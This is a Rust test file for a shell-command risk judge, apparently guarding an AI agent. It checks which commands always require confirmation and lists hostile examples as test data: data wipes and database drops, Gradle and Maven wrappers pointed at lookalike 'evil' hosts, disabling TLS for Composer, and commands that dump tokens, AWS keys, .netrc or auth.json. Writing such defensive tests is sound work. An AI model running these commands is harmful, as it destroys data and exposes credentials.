//! Dangerous commands behind a runner, a wrapper or a tool's group of commands: a destroying
//! verb past a known tool's row or given to an unknown program by a project runner, a build
//! tool's wrapper pointed at an unofficial distribution, a package source added to the
//! project, what a development container's exec or shortcut runs, and the script a tool's
//! shell is given. Each always asks; its everyday neighbours keep their families.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::panic,
    missing_docs
)]

mod common;

use airlock_shell::{Level, judge};
use common::{ENV, allowed, always_ask, project_family};

#[test]
fn a_destroying_verb_past_a_known_tools_group_always_asks() {
    always_ask(&[
        "dagster asset wipe --all -m lakeside.definitions",
        "uv run dagster asset wipe --all -m lakeside.definitions",
        "poetry run dagster asset wipe --all",
        "pdm run dagster asset wipe -m app.defs",
        "hatch run dagster asset wipe --all",
        "pipenv run dagster asset wipe --all",
        "cd orchestration && uv run dagster asset wipe --all",
        "DAGSTER_HOME=/tmp/dh uv run dagster asset wipe --all",
        "dotnet ef migrations remove --force",
    ]);
}

#[test]
fn a_known_tools_group_keeps_its_everyday_commands() {
    project_family(&[
        "dagster asset materialize -m lakeside.definitions --select retention",
        "uv run dagster asset materialize -m lakeside.definitions",
        "uv run dagster dev -m lakeside.definitions",
        // A row whose last word tests or runs: what follows names a test, not a verb.
        "cargo test delete_user",
        "cargo test wipe",
        "stack purge",
        // A row naming the command itself: the last migration's files out of the project.
        "dotnet ef migrations remove --project src/Fleet.Api",
    ]);
    allowed(&["dagster asset list -m lakeside.definitions"]);
    // A dry run says it changes nothing.
    let v = judge("dagster asset wipe --all --dry-run", &ENV);
    assert_ne!(v.level, Level::AlwaysAsk, "{v:?}");
}

#[test]
fn a_destroying_verb_given_to_an_unknown_program_by_a_project_runner_always_asks() {
    always_ask(&[
        "pnpm exec foo wipe",
        "pnpm exec foo delete-all",
        "pnpm --filter web exec foo purge",
        "yarn exec foo drop",
        "rye run foo wipe",
        "uv run foo purge --all",
        "python -m foo wipe",
        "python3 -m tools.cli drop-db",
        "uv run python -m foo drop-db",
        "poetry run python -m app.admin reset",
    ]);
}

#[test]
fn a_project_runners_unknown_everyday_program_stays_the_project_family() {
    project_family(&[
        "pnpm exec foo build",
        "yarn exec foo test",
        "rye run foo build",
        "python -m foo build",
        "uv run python -m foo check",
        // pnpm's filter takes a value: the tool after it is found, and judged by its table.
        "pnpm -F ui storybook --ci",
        "pnpm --filter web exec tsc --noEmit",
    ]);
    let v = judge("python -m foo wipe --dry-run", &ENV);
    assert_ne!(v.level, Level::AlwaysAsk, "{v:?}");
}

#[test]
fn a_build_wrapper_pointed_at_an_unofficial_distribution_always_asks() {
    always_ask(&[
        "./gradlew wrapper --gradle-version 8.10.2 --gradle-distribution-url https://gradle-mirror.fastdl.io/gradle-8.10.2-all.zip",
        "gradle wrapper --gradle-distribution-url=https://mirror.example.com/gradle-8.10-bin.zip",
        "./gradlew wrapper --gradle-distribution-url http://services.gradle.org/distributions/gradle-8.10-bin.zip",
        "gradle wrapper --gradle-distribution-url https://services.gradle.org.evil.io/gradle-8.10-bin.zip",
        "gradle wrapper --gradle-distribution-url https://user@services.gradle.org/distributions/g.zip",
        "gradle wrapper --gradle-distribution-url file:///tmp/gradle-8.10-bin.zip",
        "cd app && ../gradlew wrapper --gradle-distribution-url https://mirror.example/g.zip",
        "./mvnw -N wrapper:wrapper -Dmaven=3.9.9 -DdistributionUrl=https://evil.example/maven.zip",
        "mvn -N wrapper:wrapper -DwrapperUrl=https://x.example.io/maven-wrapper.jar",
    ]);
}

#[test]
fn a_build_wrapper_from_its_tools_own_hosts_stays_the_project_family() {
    project_family(&[
        "./gradlew wrapper --gradle-version 8.10.2",
        "gradle wrapper --gradle-version 8.10.2 --gradle-distribution-url https://services.gradle.org/distributions/gradle-8.10.2-bin.zip",
        "./mvnw -N wrapper:wrapper -Dmaven=3.9.9",
        "mvn -N wrapper:wrapper -DdistributionUrl=https://repo.maven.apache.org/maven2/org/apache/maven/apache-maven/3.9.9/apache-maven-3.9.9-bin.zip",
    ]);
}

#[test]
fn a_package_source_added_to_the_project_always_asks() {
    always_ask(&[
        "composer config repositories.speedcart vcs https://github.com/mage-turbo/module-speedcart",
        "composer config --json repositories.local '{\"type\":\"path\",\"url\":\"../pkg\"}'",
        "composer config repo.packagist false",
        "composer config secure-http false",
        "composer config disable-tls true",
        "poetry source add internal https://pypi.example.com/simple",
        "bundle config mirror.https://rubygems.org https://gems.example.com",
        "bundle config set --local mirror.https://rubygems.org https://gems.example.com",
        "docker compose exec -T php composer config repositories.x vcs https://github.com/a/b",
    ]);
}

#[test]
fn reading_a_projects_package_settings_keeps_its_level() {
    for s in [
        "composer config repositories.speedcart",
        "composer config secure-http",
        "composer config minimum-stability dev",
        "bundle config set --local path vendor/bundle",
    ] {
        let v = judge(s, &ENV);
        assert_ne!(v.level, Level::AlwaysAsk, "{s}: {v:?}");
    }
}

#[test]
fn what_a_development_containers_exec_runs_is_judged() {
    always_ask(&[
        "warden env exec -T php-fpm composer config repositories.speedcart vcs https://github.com/mage-turbo/module-speedcart && warden env exec -T php-fpm composer require mage-turbo/module-speedcart:dev-main",
        "warden env exec -T php-fpm composer global require n98/magerun2-dist hirak/prestissimo",
        "warden env exec php-fpm composer global require n98/magerun2-dist",
        "warden env exec -T -u root php-fpm composer global require x/y",
        "warden env run --rm php-fpm cat /root/.composer/auth.json",
        "den env exec -T php-fpm composer global require x/y",
        "ddev composer global require x/y",
        "ddev composer config repositories.x vcs https://github.com/a/b",
        "lando composer global require x/y",
        "lando drush sql:drop -y",
        "ddev artisan migrate:fresh",
    ]);
    project_family(&[
        "warden env exec -T php-fpm vendor/bin/php-cs-fixer fix app/code --dry-run --diff",
        "warden env exec -T php-fpm bin/magento setup:upgrade",
        "ddev composer install",
        "ddev npm run build",
    ]);
}

#[test]
fn the_script_a_tools_shell_is_given_is_judged() {
    always_ask(&[
        "kas shell kas/harbor.yml -c 'env | grep -iE \"token|key|pass\"'",
        "kas shell kas/harbor.yml --command 'printenv'",
        "kas shell kas/harbor.yml --command='env'",
        "kas-container shell kas/x.yml -c 'cat ~/.netrc'",
        "warden shell -c 'env'",
        "warden shell -c 'cat app/etc/env.php'",
        "lando ssh -c 'cat /app/.env'",
        "nix-shell --run 'env | grep -i token'",
        "nix-shell --command 'printenv AWS_SECRET_ACCESS_KEY'",
        // A script built at run time is not shown.
        "kas shell kas/harbor.yml -c \"$CMD\"",
        "kas shell kas/harbor.yml -c \"$(cat script.sh)\"",
        "warden shell -c \"$X\"",
        "nix-shell --run \"$X\"",
        "lando ssh -c \"$X\"",
    ]);
    project_family(&[
        "nix-shell --run 'cargo test'",
        "warden shell -c 'bin/magento indexer:status'",
    ]);
}

#[test]
fn a_projects_own_program_told_to_throw_data_away_always_asks() {
    always_ask(&[
        "./bin/mytool wipe --all",
        "./bin/app db:drop",
        "./target/release/app purge",
        "bin/magento indexer:reset",
        "warden env exec -T php-fpm ./bin/app queue:purge",
    ]);
    project_family(&[
        "./bin/mytool wipe --all --dry-run",
        "bin/magento cache:clean",
        "bin/magento cache:flush",
        "bin/magento setup:upgrade",
        "./target/release/app serve --port 8080",
    ]);
}
